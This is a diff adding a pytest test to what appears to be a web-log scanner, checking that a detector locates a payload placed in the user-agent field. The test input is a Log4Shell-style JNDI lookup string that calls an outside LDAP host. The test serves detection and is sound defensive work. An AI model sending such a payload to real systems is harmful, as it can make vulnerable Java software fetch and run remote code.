@@ -61,6 +61,13 @@ def test_the_place_of_a_short_target_is_its_own() -> None:
     assert line[place.start - 4 : place.end + 1] == "GET / "
 
 
+def test_a_payload_in_the_browsers_name_is_pointed_at_there() -> None:
+    line = log_line("/", agent="${jndi:ldap://192.0.2.5/x}")
+    (place,) = _only(line).where
+    assert isinstance(place, TextSpan)
+    assert line[place.start : place.end] == "${jndi:ldap://192.0.2.5/x}"
+
+
 @pytest.mark.parametrize(
     "value",
     [
